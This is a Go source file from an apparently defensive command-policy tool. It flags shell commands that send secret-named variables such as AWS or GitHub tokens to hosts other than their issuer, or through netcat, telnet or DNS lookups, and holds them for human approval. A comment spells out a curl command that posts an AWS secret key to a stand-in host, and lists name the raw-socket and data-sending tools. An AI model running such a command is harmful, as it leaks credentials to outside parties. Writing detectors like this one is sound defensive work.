package policy

import (
	"strings"

	"github.com/guard-exec/guard-exec/internal/redact"
	"github.com/guard-exec/guard-exec/parse"
)

// A secret in a command's own arguments leaves the machine with the
// request: curl -d "$AWS_SECRET_ACCESS_KEY" https://x.example sends it as
// surely as piping it would. Sending a token to the service that issued it
// is its ordinary use (curl -H "Authorization: Bearer $GITHUB_TOKEN"
// https://api.github.com/user), so what decides is where it goes: a token
// whose issuer is known (secretOwners) sent to a host outside that
// issuer's domains is an exfiltration, and so is any secret in the
// arguments of a raw socket or a name lookup (nc, socat, dig), which no
// service takes a token through. A secret whose issuer is not known
// ($API_TOKEN, $DB_PASSWORD), or a request whose host is not known
// ("$API_URL"), is left alone: the company's own service takes those.
// The verdict is a hold, not a denial: which hosts a service answers on
// is a judgement (a GitHub Enterprise server has the company's name), and
// a person can approve one.

// secretNames lists the secret-named variables shell text expands
// ($AWS_SECRET_ACCESS_KEY, ${GITHUB_TOKEN}). The analysis gives words
// their values, not their sources, so the command's own text is read.
func secretNames(s string) []string {
	var out []string
	for {
		i := strings.IndexByte(s, '$')
		if i < 0 {
			return out
		}
		s = s[i+1:]
		s = strings.TrimPrefix(s, "{")
		n := 0
		for n < len(s) && (s[n] == '_' || s[n] >= 'A' && s[n] <= 'Z' || s[n] >= 'a' && s[n] <= 'z' || n > 0 && s[n] >= '0' && s[n] <= '9') {
			n++
		}
		if n > 0 && redact.SecretEnvName(s[:n]) {
			out = append(out, s[:n])
		}
	}
}

// argText is the command's text from its name on: what comes before it
// (GITHUB_TOKEN=$GH_TOKEN curl …, a wrapper's own options) sets the
// program's environment or the wrapper's, and is not sent.
func argText(c *parse.Command) string {
	s := c.Span
	for from := 0; from < len(s); {
		i := strings.Index(s[from:], c.Name)
		if i < 0 {
			break
		}
		i += from
		end := i + len(c.Name)
		if (i == 0 || strings.ContainsRune(" \t/'\"", rune(s[i-1]))) && (end == len(s) || strings.ContainsRune(" \t'\"", rune(s[end]))) {
			return s[end:]
		}
		from = end
	}
	return s
}

// secretOwners are the domains of the service that issues a secret,
// by the variable's name: a prefix, or the whole name. The first match
// wins.
var secretOwners = []struct {
	prefix  string
	domains []string
}{
	{"GITHUB_", []string{"github.com", "githubusercontent.com", "ghcr.io", "github"}},
	{"GH_", []string{"github.com", "githubusercontent.com", "ghcr.io", "github"}},
	{"GITLAB_", []string{"gitlab.com", "gitlab"}},
	{"CI_JOB_TOKEN", []string{"gitlab.com", "gitlab"}},
	{"NPM_", []string{"npmjs.org", "npmjs.com", "npm.pkg.github.com"}},
	{"NODE_AUTH_TOKEN", []string{"npmjs.org", "npmjs.com", "npm.pkg.github.com"}},
	{"AWS_", []string{"amazonaws.com", "aws.amazon.com", "amazonaws.com.cn"}},
	{"OPENAI_", []string{"openai.com"}},
	{"ANTHROPIC_", []string{"anthropic.com"}},
	{"SLACK_", []string{"slack.com"}},
	{"HF_", []string{"huggingface.co"}},
	{"HUGGING", []string{"huggingface.co"}},
	{"DOCKER", []string{"docker.io", "docker.com"}},
	{"PYPI_", []string{"pypi.org"}},
	{"TWINE_", []string{"pypi.org"}},
	{"STRIPE_", []string{"stripe.com"}},
	{"CLOUDFLARE_", []string{"cloudflare.com"}},
	{"CF_API_", []string{"cloudflare.com"}},
	{"DIGITALOCEAN_", []string{"digitalocean.com"}},
	{"HEROKU_", []string{"heroku.com"}},
	{"SENTRY_", []string{"sentry.io"}},
	{"VERCEL_", []string{"vercel.com"}},
	{"NETLIFY_", []string{"netlify.com"}},
	{"CODECOV_", []string{"codecov.io"}},
	{"CIRCLE", []string{"circleci.com"}},
	{"DATADOG_", []string{"datadoghq.com", "datadoghq.eu"}},
	{"DD_API_KEY", []string{"datadoghq.com", "datadoghq.eu"}},
	{"TELEGRAM_", []string{"telegram.org"}},
	{"GOOGLE_", []string{"googleapis.com", "google.com"}},
	{"GEMINI_", []string{"googleapis.com", "google.com"}},
	{"AZURE_", []string{"azure.com", "microsoft.com", "windows.net", "microsoftonline.com"}},
	{"JIRA_", []string{"atlassian.net", "atlassian.com"}},
	{"ATLASSIAN_", []string{"atlassian.net", "atlassian.com"}},
}

// ownerDomains are the domains of the service that issued the secret
// name; nil when that is not known.
func ownerDomains(name string) []string {
	for _, o := range secretOwners {
		if strings.HasPrefix(name, o.prefix) {
			return o.domains
		}
	}
	return nil
}

// ownedBy reports whether host is one of the domains or below one; a
// domain without a dot ("gitlab") matches a host whose first label it is
// (a company's own gitlab.example.com), not one that only contains it
// (api.github.com.x.example).
func ownedBy(host string, domains []string) bool {
	for _, d := range domains {
		if !strings.Contains(d, ".") {
			if first, _, _ := strings.Cut(host, "."); first == d {
				return true
			}
			continue
		}
		if host == d || strings.HasSuffix(host, "."+d) {
			return true
		}
	}
	return false
}

// requestHosts are the hosts of the URLs a web client was given, and
// whether every URL's host is known.
func requestHosts(c *parse.Command) (hosts []string, known bool) {
	known = true
	for _, ra := range c.Roles {
		if ra.Role != parse.RoleData || ra.Opt != "" && ra.Opt != "--url" {
			continue
		}
		v := ra.Word.Value
		if !strings.Contains(v, "://") && !strings.Contains(strings.SplitN(v, "/", 2)[0], ".") {
			continue // not a URL: a method, a request item (http POST url k=v)
		}
		h := urlHost(v)
		if h == "" || ra.Word.Dynamic && strings.Contains(h, parse.Unknown) {
			known = false
			continue
		}
		hosts = append(hosts, h)
	}
	return hosts, known && len(hosts) > 0
}

// rawSender reports whether a command's arguments go to the network as
// they are, where no service takes a token: a raw socket or a name
// lookup.
func rawSender(name string) bool { return rawSocket(name) || nameLookup(name) }

// rawSocket reports whether a program is a raw network socket: netcat
// by any of its names (netcats), or telnet.
func rawSocket(name string) bool { return name == "telnet" || contains(netcats, name) }

// stdinSender reports whether a program sends what it reads on standard
// input: raw sockets, file transfer and mail.
func stdinSender(name string) bool {
	switch name {
	case "ftp", "tftp", "sftp", "mail", "mailx", "sendmail", "mutt":
		return true
	}
	return rawSocket(name)
}

// nameLookup reports whether a program looks a name up, which is a
// message to whoever serves its domain.
func nameLookup(name string) bool {
	switch name {
	case "dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "tracepath":
		return true
	}
	return false
}

// secretElsewhere reports whether the command sends a secret named in its
// own arguments to a place other than the service that issued it.
func secretElsewhere(c *parse.Command) bool {
	if c.NameDynamic || c.Function {
		return false
	}
	web, raw := isDownloaderName(c.Name), rawSender(c.Name) // a downloader with no URL operand has no known host
	if !web && !raw {
		return false
	}
	names := secretNames(argText(c))
	if len(names) == 0 {
		return false
	}
	if raw {
		return true
	}
	hosts, known := requestHosts(c)
	if !known {
		return false
	}
	for _, n := range names {
		domains := ownerDomains(n)
		if domains == nil {
			continue
		}
		for _, h := range hosts {
			if h != "localhost" && h != "127.0.0.1" && h != "::1" && !ownedBy(h, domains) {
				return true
			}
		}
	}
	return false
}
